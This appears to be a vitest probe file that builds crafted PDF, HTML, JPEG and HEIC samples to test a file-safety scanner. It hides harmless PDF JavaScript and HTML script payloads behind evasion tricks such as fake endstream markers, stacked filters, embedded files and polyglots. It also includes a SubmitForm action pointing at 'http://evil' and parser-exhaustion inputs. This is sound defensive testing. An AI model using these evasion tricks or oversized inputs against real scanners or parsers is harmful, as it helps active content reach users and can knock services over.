import { deflateSync } from 'node:zlib';
import { it } from 'vitest';
import { aPdf, aStream, aPackedStream, anObjectStream } from '../test/a-file.ts';
import { verdictOn } from '../test/verdict-on.ts';
import { writeFileSync } from 'node:fs';
const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
const up = (text: string, columns = 8) => {
  const b = Buffer.from(text.padEnd(Math.ceil(text.length/columns)*columns), 'latin1');
  const rows = [Buffer.alloc(columns)]; const out: Buffer[] = [];
  for (let i=0;i<b.length;i+=columns){ const row=b.subarray(i,i+columns); const prev=rows.at(-1)!; out.push(Buffer.from([2]), Buffer.from(row.map((v,j)=>(v-prev[j]!)&255))); rows.push(row);}
  return Buffer.concat(out);
};
function a85(buf: Buffer){ let s=''; for(let i=0;i<buf.length;i+=4){ const n=Math.min(4,buf.length-i); let v=0; for(let j=0;j<4;j++) v=v*256+(j<n?buf[i+j]!:0); const d=[0,0,0,0,0]; for(let j=4;j>=0;j--){d[j]=v%85; v=Math.floor(v/85);} s+=String.fromCharCode(...d.slice(0,n+1).map(x=>x+33)); } return s+'~>'; }
function un85(t:string){const out:number[]=[];for(let i=0;i+5<=t.length;i+=5){let v=0;for(let j=0;j<5;j++)v=v*85+t.charCodeAt(i+j)-33;out.push(Math.floor(v/2**24)%256,Math.floor(v/65536)%256,Math.floor(v/256)%256,v%256)}return Buffer.from(out)}
const rec: Record<string, Buffer> = {
  predictor: aPdf({objects:[aPackedStream(up('7 0 '+script),'/Type /ObjStm /N 1 /First 4 /DecodeParms << /Predictor 12 /Columns 8 >>')]}),
  plainEndstream: aPdf({objects:[aStream('7 0 << /A (endstream %) '+script.slice(2), '/Type /ObjStm /N 1 /First 4')]}),
  plainEndstreamEndobj: aPdf({objects:[aStream('7 0 << /A (endstream endobj %) '+script.slice(2), '/Type /ObjStm /N 1 /First 4')]}),
  a85Endstream: (()=>{ const mid=un85('endstream!'); const pre=Buffer.from('7 0 (abc'); return aPdf({objects:[aStream(a85(pre).slice(0,-2)+'endstream!'+a85(Buffer.from(') '+script)), '/Type /ObjStm /N 1 /First 4 /Filter /ASCII85Decode')]}) })(),
  fName: aPdf({objects:[aStream(deflateSync('7 0 '+script), '/Type /ObjStm /N 1 /First 4 /F /FlateDecode')]}),
  forgetArray: aPdf({objects:[aStream(deflateSync('7 0 '+script), '/Type /ObjStm /N 1 /First 4 /X [ >> endobj ] /Filter /FlateDecode')]}),
  forgetKey: aPdf({objects:[aStream(deflateSync('7 0 '+script), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /X >> endobj 9 0 obj << /A 1')]}),
  fakeStream: aPdf({objects:['6 0 obj\n<< /X stream\n/S /JavaScript /JS (app.alert(1)) /Y endstream >>\nendobj']}),
  fakeStream2: aPdf({objects:['6 0 obj\n[ stream\n '+script+' endstream ]\nendobj']}),
  trailerInComment: aPdf({objects:['% trailer << /Root << /OpenAction '+script+' >> >>']}),
  trailerInStream: aPdf({objects:[aStream('trailer << /Root << /OpenAction '+script+' >> >>')]}),
  embeddedPdf: aPdf({objects:[aPackedStream(aPdf({objects:['6 0 obj '+script+' endobj']}), '/Type /EmbeddedFile')]}),
  embeddedHta: aPdf({objects:[aPackedStream('<script>alert(1)</script>', '/Type /EmbeddedFile')]}),
  embeddedZip: aPdf({objects:[aPackedStream(Buffer.concat([Buffer.from('PK\x03\x04')]), '/Type /EmbeddedFile')]}),
  submitForm: aPdf({objects:['6 0 obj << /S /SubmitForm /F (http://evil) >> endobj']}),
  jsOnlyRendition: aPdf({objects:['6 0 obj << /S /Rendition >> endobj']}),
  doubleFlate: aPdf({objects:[aStream(deflateSync(deflateSync('7 0 '+script)), '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]')]}),
  flateThenHex: aPdf({objects:[aStream(deflateSync(Buffer.from('7 0 '+script).toString('hex')), '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /ASCIIHexDecode]')]}),
  utf16: Buffer.concat([Buffer.from([0xff,0xfe]), Buffer.from('<script>alert(1)</script>','utf16le')]),
  lateHtml: Buffer.from('x'.repeat(3000)+'<script>alert(1)</script>'),
  htmlEvent: Buffer.from('hello <img src=x onerror=alert(1)>'),
  bidiText: Buffer.from('hello \u202e txt'),
  bomHtml: Buffer.from('\ufeff<html>'),
  jpegHtmlComment: (()=>{const c=Buffer.from('<html><script>alert(1)</script>');return Buffer.concat([Buffer.from([0xff,0xd8,0xff,0xfe,0,c.length+2]),c,Buffer.from([0xff,0xda,0,2,1,0xff,0xd9])])})(),
  heicMdatHtml: Buffer.concat([Buffer.from([0,0,0,24]),Buffer.from('ftypheic\0\0\0\0mif1heic'),Buffer.from([0,0,0,12]),Buffer.from('meta\0\0\0\0'),Buffer.from([0,0,0,0]),Buffer.from('mdat<html>')]),
};
it('probe', async () => { for (const [n,f] of Object.entries(rec)) { writeFileSync('/tmp/r3/'+n+'.bin', f); let v; try { v = await verdictOn(f);} catch(e){ v='THROWN '+e;} console.log(n.padEnd(22), v); } });
it('many filters', async () => {
  for (const count of [1e5, 1e6]) { const before=process.memoryUsage().rss; const t=Date.now();
  const f=aPdf({objects:[aStream('00','/Filter ['+'/AHx'.repeat(count)+']')]});
  const v=await verdictOn(f, 65536).catch(String); console.log('filters',count,v,Math.round((process.memoryUsage().rss-before)/1e6)+'MB',Date.now()-t+'ms'); }
}, 60000);
it('many streams', async () => {
  const one='<</Filter/Fl>>stream\nendstream ';
  const f=aPdf({objects:[one.repeat(20000)]}); let t=Date.now(); let v=await verdictOn(f,65536).catch(String); console.log('20k broken streams', f.length, v, Date.now()-t+'ms', Math.round(process.memoryUsage().rss/1e6)+'MB');
  const p=aPdf({objects:Array(20000).fill(aPackedStream('','')) }); t=Date.now(); v=await verdictOn(p,65536).catch(String); console.log('20k whole streams', p.length, v, Date.now()-t+'ms', Math.round(process.memoryUsage().rss/1e6)+'MB');
  const h=aPdf({objects:[aStream('41'.repeat(5e6),'/Filter/AHx')]}); t=Date.now(); v=await verdictOn(h,65536).catch(String); console.log('10MB hex', v, Date.now()-t+'ms');
  const a=aPdf({objects:[aStream('z'.repeat(10e6),'/Filter/A85')]}); t=Date.now(); v=await verdictOn(a,65536).catch(String); console.log('10MB a85 z', v, Date.now()-t+'ms');
  const b=aPdf({objects:[anObjectStream(' '.repeat(100e6))]}); t=Date.now(); v=await verdictOn(b,65536).catch(String); console.log('100MB unpacked objects', b.length, v, Date.now()-t+'ms');
  const o=aPdf({objects:[aStream('obj'.repeat(3e6))]}); t=Date.now(); v=await verdictOn(o,65536).catch(String); console.log('9MB obj', v, Date.now()-t+'ms');
  const e=aPdf({objects:['%%EOF'.repeat(2e6)]}); t=Date.now(); v=await verdictOn(e,65536).catch(String); console.log('10MB EOF', v, Date.now()-t+'ms');
  const l=aPdf({objects:[aStream(Buffer.alloc(10e6,0x80),'/Filter/LZW')]}); t=Date.now(); v=await verdictOn(l,65536).catch(String); console.log('10MB lzw', v, Date.now()-t+'ms');
  const ss=aPdf({objects:[' obj('.repeat(2e6)]}); t=Date.now(); v=await verdictOn(ss,65536).catch(String); console.log('10MB obj(', v, Date.now()-t+'ms');
}, 120000);
